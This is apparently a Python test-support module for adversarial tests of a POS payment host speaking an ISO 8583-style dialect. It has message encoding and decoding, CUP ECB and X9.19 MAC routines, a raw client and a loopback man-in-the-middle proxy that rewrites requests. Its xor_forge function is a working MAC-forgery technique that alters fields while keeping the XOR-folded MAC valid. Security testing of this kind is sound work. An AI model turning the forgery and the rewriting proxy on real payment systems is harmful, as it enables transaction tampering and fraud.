"""The POS dialect written from ../shared/spec/pos-8583.md alone, for attack tests: frames, the bitmap, the
field layout table, the "CUP ECB" and X9.19 MACs (on psec's DES, not posgate's code), a raw TCP client and
a man-in-the-middle proxy on loopback. Nothing here imports posgate, so an attack built with it tests the host
the way an adversary on the terminal network would.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable
from dataclasses import dataclass

from psec import des
from psec import mac as psec_mac

# field → (kind, size): "bcd" n digits fixed; "bcdl" left-aligned n digits (22); "ascii" n bytes;
# "bin" n bytes; "llbcd" 1-byte BCD length in digits + BCD; "lllbcd" 2-byte BCD length in digits + BCD;
# "llasc"/"lllasc"/"lllbin" 1-/2-byte BCD length in bytes + ASCII/binary.
LAYOUT: dict[int, tuple[str, int]] = {
    2: ("llbcd", 19),
    3: ("bcd", 6),
    4: ("bcd", 12),
    11: ("bcd", 6),
    12: ("bcd", 6),
    13: ("bcd", 4),
    14: ("bcd", 4),
    15: ("bcd", 4),
    22: ("bcdl", 3),
    23: ("bcd", 3),
    25: ("bcd", 2),
    26: ("bcd", 2),
    32: ("llbcd", 11),
    35: ("llbcd", 37),
    36: ("lllbcd", 104),
    37: ("ascii", 12),
    38: ("ascii", 6),
    39: ("ascii", 2),
    41: ("ascii", 8),
    42: ("ascii", 15),
    44: ("llasc", 25),
    48: ("lllbcd", 322),
    49: ("ascii", 3),
    52: ("bin", 8),
    53: ("bcd", 16),
    54: ("lllasc", 20),
    55: ("lllbin", 255),
    59: ("lllasc", 999),
    60: ("lllbcd", 30),
    61: ("lllbcd", 29),
    62: ("lllbin", 512),
    63: ("lllasc", 163),
    64: ("bin", 8),
}


@dataclass(frozen=True)
class Field:
    """Where a field's data sits in the payload (from the MTI on), and its value (digits, text or hex)."""

    start: int
    end: int
    value: str


def _bcd(digits: str, left: bool = True) -> bytes:
    digits = digits.replace("=", "D")
    if len(digits) % 2:
        digits = digits + "0" if left else "0" + digits
    return bytes.fromhex(digits)


def _len_bcd(n: int, width: int) -> bytes:
    return bytes.fromhex(f"{n:0{2 * width}d}")


def encode_field(number: int, value: str) -> bytes:
    kind, size = LAYOUT[number]
    if kind == "bcd":
        return _bcd(value.zfill(size), left=False)
    if kind == "bcdl":
        return _bcd(value, left=True)
    if kind == "ascii":
        return value.encode("ascii")
    if kind == "bin":
        return bytes.fromhex(value)
    if kind in ("llbcd", "lllbcd"):
        return _len_bcd(len(value), 1 if kind == "llbcd" else 2) + _bcd(value)
    data = bytes.fromhex(value) if kind == "lllbin" else value.encode("ascii")
    return _len_bcd(len(data), 1 if kind == "llasc" else 2) + data


def encode(mti: str, fields: dict[int, str]) -> bytes:
    """MTI + primary bitmap + fields, as the spec lays them out (field 64, if given, written as is)."""
    bitmap = 0
    for number in fields:
        bitmap |= 1 << (64 - number)
    body = b"".join(encode_field(n, fields[n]) for n in sorted(fields))
    return bytes.fromhex(mti) + bitmap.to_bytes(8, "big") + body


def decode(payload: bytes) -> tuple[str, dict[int, Field]]:
    """The MTI and every field with its byte range in `payload`."""
    mti = payload[:2].hex()
    bitmap = int.from_bytes(payload[2:10], "big")
    pos, fields = 10, {}
    for number in range(2, 65):
        if not bitmap & (1 << (64 - number)):
            continue
        kind, size = LAYOUT[number]
        if kind in ("bcd", "bcdl"):
            n = (size + 1) // 2
            text = payload[pos : pos + n].hex().upper()
            value = text[:size] if kind == "bcdl" else text[-size:]
            fields[number] = Field(pos, pos + n, value)
            pos += n
        elif kind in ("ascii", "bin"):
            raw = payload[pos : pos + size]
            value = raw.decode("ascii") if kind == "ascii" else raw.hex().upper()
            fields[number] = Field(pos, pos + size, value)
            pos += size
        else:
            width = 1 if kind in ("llbcd", "llasc") else 2
            length = int(payload[pos : pos + width].hex())
            pos += width
            n = (length + 1) // 2 if kind in ("llbcd", "lllbcd") else length
            raw = payload[pos : pos + n]
            if kind in ("llbcd", "lllbcd"):
                value = raw.hex().upper()[:length]
            elif kind == "lllbin":
                value = raw.hex().upper()
            else:
                value = raw.decode("ascii", "replace")
            fields[number] = Field(pos, pos + n, value)
            pos += n
    return mti, fields


def frame(
    payload: bytes, tpdu: bytes = bytes.fromhex("6000030000"), header: bytes = bytes.fromhex("603100000000")
) -> bytes:
    body = tpdu + header + payload
    return len(body).to_bytes(2, "big") + body


def unframe(body: bytes) -> tuple[bytes, bytes]:
    """(header, payload) of a frame body (without its length)."""
    return body[5:11], body[11:]


# ---- MACs, from the spec's "Keys and security" ---------------------------------------------------------


def _zero_pad(data: bytes) -> bytes:
    return data + b"\x00" * (-len(data) % 8)


def cup_ecb_mac(mak: bytes, data: bytes) -> bytes:
    padded = _zero_pad(data)
    folded = bytes(8)
    for i in range(0, len(padded), 8):
        folded = bytes(a ^ b for a, b in zip(folded, padded[i : i + 8], strict=True))
    text = folded.hex().upper().encode("ascii")
    step = des.encrypt_tdes_ecb(mak, text[:8])
    result = des.encrypt_tdes_ecb(mak, bytes(a ^ b for a, b in zip(step, text[8:], strict=True)))
    return result.hex().upper()[:8].encode("ascii")


def x919_mac(mak: bytes, data: bytes) -> bytes:
    return psec_mac.generate_retail_mac(mak[:8], mak[8:], data, padding=1)


def xor_forge(payload: bytes, field: Field, new_value: bytes, carrier: Field) -> bytes:
    """Replace `field`'s bytes by `new_value` and cancel every changed byte at the same offset modulo 8
    inside `carrier`: the XOR of all 8-byte blocks, and so the CUP ECB MAC, is unchanged."""
    forged = bytearray(payload)
    for i, byte in enumerate(new_value):
        at = field.start + i
        diff = forged[at] ^ byte
        if not diff:
            continue
        forged[at] = byte
        slot = next(p for p in range(carrier.start, carrier.end) if p % 8 == at % 8)
        forged[slot] ^= diff
    return bytes(forged)


# ---- a raw client and a man-in-the-middle proxy --------------------------------------------------------


async def read_frame(reader: asyncio.StreamReader, timeout_s: float = 5.0) -> bytes:
    size = int.from_bytes(await asyncio.wait_for(reader.readexactly(2), timeout_s), "big")
    return await asyncio.wait_for(reader.readexactly(size), timeout_s)


async def exchange(host: str, port: int, payload: bytes) -> dict[int, Field]:
    """One request on a fresh connection; the response's fields."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(frame(payload))
        await writer.drain()
        _, answer = unframe(await read_frame(reader))
        return decode(answer)[1]
    finally:
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()


Rewrite = Callable[[bytes], bytes]


class Proxy:
    """Sits between a terminal and the host on loopback; `rewrite` may change each request payload."""

    def __init__(self, upstream: tuple[str, int], rewrite: Rewrite = lambda payload: payload) -> None:
        self.upstream = upstream
        self.rewrite = rewrite
        self.seen: list[bytes] = []  # request payloads as the terminal sent them
        self.sent: list[bytes] = []  # as forwarded
        self.answers: list[dict[int, Field]] = []  # the host's responses, decoded
        self.address: tuple[str, int] = ("", 0)
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    async def start(self) -> tuple[str, int]:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        host, port = self._server.sockets[0].getsockname()[:2]
        self.address = (host, port)
        return host, port

    async def stop(self) -> None:
        if self._server is not None:
            self._server.close()
        for task in list(self._tasks):
            task.cancel()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        up_reader, up_writer = await asyncio.open_connection(*self.upstream)

        async def back() -> None:
            with contextlib.suppress(Exception):
                while True:
                    body = await read_frame(up_reader, timeout_s=3600)
                    self.answers.append(decode(unframe(body)[1])[1])
                    writer.write(len(body).to_bytes(2, "big") + body)
                    await writer.drain()

        task = asyncio.create_task(back())
        self._tasks.add(task)
        try:
            while True:
                body = await read_frame(reader, timeout_s=3600)
                head, payload = body[:11], body[11:]
                self.seen.append(payload)
                forwarded = self.rewrite(payload)
                self.sent.append(forwarded)
                up_writer.write(frame(forwarded, head[:5], head[5:]))
                await up_writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError, asyncio.CancelledError):
            pass
        finally:
            task.cancel()
            up_writer.close()
            writer.close()
